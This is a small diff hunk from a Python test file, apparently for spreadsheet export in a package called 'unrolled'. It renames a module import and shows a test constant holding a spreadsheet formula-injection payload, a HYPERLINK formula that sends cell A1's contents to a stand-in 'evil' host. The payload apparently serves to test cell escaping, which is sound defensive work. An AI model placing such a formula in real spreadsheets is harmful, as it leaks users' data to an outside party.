@@ -8,7 +8,7 @@ import pytest
 
 import unrolled as ur
 from unrolled.cli.main import make_app
-from unrolled.data.cells import STARTS, escaped
+from unrolled.data.spreadsheet_cells import STARTS, escaped
 from unrolled.errors import OptionError
 
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
